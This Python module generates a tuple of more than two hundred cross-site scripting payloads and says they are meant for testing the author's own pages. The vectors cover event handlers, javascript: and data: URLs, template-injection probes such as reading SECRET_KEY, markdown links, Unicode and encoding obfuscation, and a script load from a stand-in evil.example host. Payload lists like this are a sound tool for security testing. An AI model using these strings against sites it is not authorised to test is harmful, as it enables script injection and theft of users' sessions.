"""More than two hundred texts that would run as a script where a page puts them in unguarded, written for our own pages."""

from __future__ import annotations

_RUN = "alert(1)"
_BEFORE = (  # what ends the place in which a text stands: words, attributes, fields, comments, scripts
    "", '">', "'>", "-->", "</p>", "</textarea>", "</title>", "</blockquote>", "</script>", "]]>", "</style>", "</select>",
)  # fmt: skip
_ELEMENTS = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<details open ontoggle={run}>",
)
_ALONE = (
    # elements and the moments at which they act
    "<body onload={run}>", "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>", "<video><source onerror={run}></video>", "<video src=x onerror={run}>",
    "<audio src=x onerror={run}>", "<marquee onstart={run}>x</marquee>", "<object data=x onerror={run}>",
    "<object data='javascript:{run}'>", "<embed src='javascript:{run}'>", "<iframe src=javascript:{run}>",
    "<iframe onload={run}>", "<link rel=stylesheet href=x onerror={run}>", "<style onload={run}></style>",
    "<style>@import 'javascript:{run}';</style>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href='javascript:{run}//'>", "<form action='javascript:{run}'><button>x</button></form>",
    "<button formaction='javascript:{run}' autofocus>x</button>", "<isindex type=image src=1 onerror={run}>",
    "<table background='javascript:{run}'><tr><td>x</td></tr></table>", "<dialog open onfocus={run} autofocus>x</dialog>",
    "<div contenteditable autofocus onfocus={run}>x</div>", "<p tabindex=1 autofocus onfocus={run}>x</p>",
    "<a autofocus href=x onfocus={run}>x</a>", "<img srcset=x onerror={run}>", "<picture><img src=x onerror={run}></picture>",
    "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={run}>x</b>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<script src='data:text/javascript,{run}'></script>", "<script type=module>{run}</script>",
    "<script>setTimeout('{run}')</script>", "<script>top['al'+'ert'](1)</script>", "<xmp><img src=x onerror={run}></xmp>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<math href='javascript:{run}'>x</math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    # drawings
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg/onload={run}>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>", "<svg><image href=x onerror={run} /></svg>",
    "<svg><set onbegin={run} attributeName=x>", "<svg><style><img src=x onerror={run}></style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}/>#x'>", "<svg><foreignObject><img src=x onerror={run}>",
    "<svg><desc><![CDATA[</desc><script>{run}</script>]]></svg>", "<svg><title><script>{run}</script></title></svg>",
    "<?xml version='1.0'?><svg onload={run}>", "<svg><discard onbegin={run}>",
    # attributes
    "\" onmouseover={run} x=\"", "' onmouseover={run} x='", "\" autofocus onfocus={run} x=\"", "' autofocus onfocus={run} x='",
    "x onerror={run} y", "x` onerror={run} y=`", "\" style=animation-name:x onanimationstart={run} x=\"",
    "\" src=x onerror={run} alt=\"", "\"/onload={run}//", "x\tonfocus={run}\tautofocus", "x\nonfocus={run}\nautofocus",
    "x\fonfocus={run}\fautofocus", "\" hx-get=/ hx-on:load={run} x=\"", "\" data-tell-said=\"{run}",
    # addresses
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", "\x01javascript:{run}",
    "javascript://x%0a{run}", "javascript&colon;{run}", "&#106;avascript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "//evil.example/x.js",
    "view-source:javascript:{run}", "blob:javascript:{run}", "livescript:{run}", "feed:javascript:{run}",
    # templates
    "{{{{ {run} }}}}", "{{% load i18n %}}{{{{ request }}}}", "{{% include 'x' %}}", "{{{{ settings.SECRET_KEY }}}}",
    "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "#{{{run}}}", "<%= {run} %>", "{{{{7*7}}}}", "[[{run}]]",
    "{{# x #}}<img src=x onerror={run}>", "{{% autoescape off %}}<img src=x onerror={run}>{{% endautoescape %}}",
    "{{{{ x|safe }}}}<svg onload={run}>", "<img src=x onerror={{{{{run}}}}}>",
    # words with marks
    "[x](javascript:{run})", "![x](x\"onerror=\"{run})", "<javascript:{run}>", "[x]: javascript:{run}", "`<script>{run}</script>`",
    "```\n<script>{run}</script>\n```", "[a](<javascript:{run}>)", "![a]('onerror='{run})", "> <img src=x onerror={run}>",
    # signs that only look, or look like nothing
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e", "\u2039img src=x onerror={run}\u203a", "\u02bcscript\u02be{run}",
    "<\u200bscript>{run}</script>", "<scr\u00adipt>{run}</script>", "\u202e>tpircs<{run}", "\ufeff<script>{run}</script>",
    "<img\u2028src=x\u2028onerror={run}>", "<\u0130mg src=x onerror={run}>", "<\u017fcript>{run}</\u017fcript>",
    "<img src=x onerror=\u0061lert(1)>", "<script>\\u0061lert(1)</script>", "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "\u00c0\u00bcscript\u00c0\u00be{run}",
    # looks, data and what is in between
    "x;background:url(javascript:{run})", "}}</style><img src=x onerror={run}>", "expression({run})", "-moz-binding:url(x#{run})",
    "\"}};{run};//", "'}};{run};//", "\\\"}};{run};//", "</script><script>{run}</script>", "\\u003cscript\\u003e{run}", "*/{run}/*",
    "';{run}//", "\";{run}//", "\\';{run}//", "`;{run}//", "\n{run}\n//", "<!--<script>{run}//-->", "<![CDATA[<script>{run}</script>]]>",
    # without an end, with a nothing in it, and too much of it
    "<script\x00>{run}</script>", "<img src=x one\x00rror={run}>", "\x00<svg onload={run}>", "<img src=x onerror={run}", "<svg onload={run}//",
    "<script>{run}", "<<script>{run}//<</script>", "<scr<script>ipt>{run}</scr</script>ipt>", "<img/src=x/onerror={run}>",
    "<img src=x onerror\x0b={run}>", "<IMG SRC=X ONERROR={run}>", "<img src=x onerror =  {run} >",
)  # fmt: skip
_LONG = (
    "<" * 400 + "script>{run}</script>",
    "<b>" * 120 + "<img src=x onerror={run}>",
    "\"'" * 200 + "><svg onload={run}>",
)
_made = [before + one for one in _ELEMENTS for before in _BEFORE] + [*_ALONE, *_LONG]
PAYLOADS = tuple(dict.fromkeys(one.format(run=_RUN) for one in _made))
